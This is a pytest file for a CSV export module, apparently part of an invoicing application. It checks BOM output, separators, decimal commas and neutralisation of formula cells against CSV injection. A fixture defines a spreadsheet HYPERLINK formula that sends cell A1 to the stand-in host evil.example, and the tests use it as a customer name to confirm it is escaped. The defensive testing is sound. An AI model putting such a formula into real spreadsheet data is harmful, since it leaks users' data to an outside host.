"""CSV exports as spreadsheets open them: UTF-8 with BOM, `;` with decimal commas on demand,
formula cells neutralised (OWASP CSV injection). The writer alone, then the API downloads
on SQLite and PostgreSQL with a customer whose name is a live formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import Engine
from starlette.testclient import TestClient

from cobro.csv_export import BOM, CsvFormat, cell, iter_csv, neutralise, to_bytes
from cobro.importing import import_csv
from cobro.settings import Settings
from cobro.users import create_api_token, create_user
from cobro.web.app import create_app
from tests.helpers.importing import write

pytestmark = pytest.mark.usefixtures("cheap_password_hashing")

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert cell(f"{start}SUM(A1)", CsvFormat()) == f"'{start}SUM(A1)"


def test_plain_text_and_numbers_are_left_alone() -> None:
    fmt, eu = CsvFormat(), CsvFormat(";")
    assert neutralise("Ferretería Núñez") == "Ferretería Núñez"
    assert neutralise("a=b") == "a=b"
    assert cell(Decimal("-1234.50"), fmt) == "-1234.50"  # a number Cobro wrote, not a formula
    assert cell(Decimal("-1234.50"), eu) == "-1234,50"
    assert cell(Decimal("1E+3"), fmt) == "1000"
    assert cell(-3, eu) == "-3"
    assert cell(0.5, eu) == "0,5"
    assert cell("-12.5", fmt) == "'-12.5"  # text stays text
    assert cell(None, fmt) == "" and cell(True, fmt) == "true"
    assert cell(date(2026, 6, 30), eu) == "2026-06-30"


def test_bytes_start_with_the_bom_and_rows_stream() -> None:
    rows = ([f"C{n}", Decimal(n) / 4] for n in range(1200))
    chunks = list(iter_csv(["account", "amount"], rows, CsvFormat(";")))
    assert len(chunks) > 2  # streamed, not built whole
    data = b"".join(chunks)
    assert data.startswith(BOM.encode("utf-8") + b"account;amount\r\n")
    assert data.decode("utf-8-sig").splitlines()[2] == "C1;0,25"


def test_separator_choices() -> None:
    assert CsvFormat.parse(None) == CsvFormat(",")
    assert CsvFormat.parse("semicolon") == CsvFormat.parse(";") == CsvFormat(";")
    with pytest.raises(ValueError, match="unknown CSV separator"):
        CsvFormat.parse("|")
    text = to_bytes(["name", "note"], [["a;b", 'say "hi"']], CsvFormat(";")).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [
        ["name", "note"],
        ["a;b", 'say "hi"'],
    ]


@pytest.fixture
def client(engine: Engine, tmp_path: Path) -> TestClient:
    customers = write(
        tmp_path / "customers.csv",
        "account,name,country,segment\n"
        f'C1,"{FORMULA.replace(chr(34), chr(34) * 2)}",ES,retail\n'
        "C2,Ferretería Núñez,ES,@risk\n"
        "C3,+34 plain,FR,\n",
    )
    invoices = write(
        tmp_path / "invoices.csv",
        "number,account,issue_date,due_date,currency,amount\n"
        "I1,C1,2026-01-01,2026-01-31,EUR,1234.56\n"
        "I2,C2,2026-01-01,2026-01-31,EUR,99.99\n",
    )
    import_csv("customers", customers, engine)
    import_csv("invoices", invoices, engine)
    create_user(engine, "viewer", "correct horse battery", "viewer")
    token = create_api_token(engine, "viewer", "tests")
    app = create_app(Settings(database_url=str(engine.url), web_secret_key="k" * 32), engine)
    return TestClient(app, headers={"Authorization": f"Bearer {token}"})


def test_customers_export_opened_as_bytes(client: TestClient) -> None:
    response = client.get("/api/customers.csv", params={"as_of": "2026-06-30"})
    assert response.status_code == 200
    data = response.content
    assert data.startswith(b"\xef\xbb\xbfaccount,name,")
    rows = {r["account"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
    assert rows["C1"]["name"] == "'" + FORMULA  # shown as text, never run
    assert rows["C2"]["name"] == "Ferretería Núñez" and rows["C2"]["segment"] == "'@risk"
    assert rows["C3"]["name"] == "'+34 plain"
    assert rows["C1"]["outstanding"] == "1234.5600"
    for line in data.decode("utf-8-sig").splitlines()[1:]:
        for value in next(csv.reader([line])):
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_semicolon_export_with_decimal_commas(client: TestClient) -> None:
    for separator in (";", "semicolon"):
        response = client.get("/api/customers.csv", params={"separator": separator})
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig")
        assert text.startswith("account;name;country;segment;")
        rows = {r["account"]: r for r in csv.DictReader(io.StringIO(text), delimiter=";")}
        assert rows["C1"]["outstanding"] == "1234,5600"
        assert rows["C1"]["name"] == "'" + FORMULA
    review = client.get("/api/reports/limit-review.csv", params={"separator": ";"})
    assert review.status_code == 200
    assert review.content.startswith(b"\xef\xbb\xbfaccount;name;segment;")
    assert client.get("/api/customers.csv", params={"separator": "|"}).status_code == 422
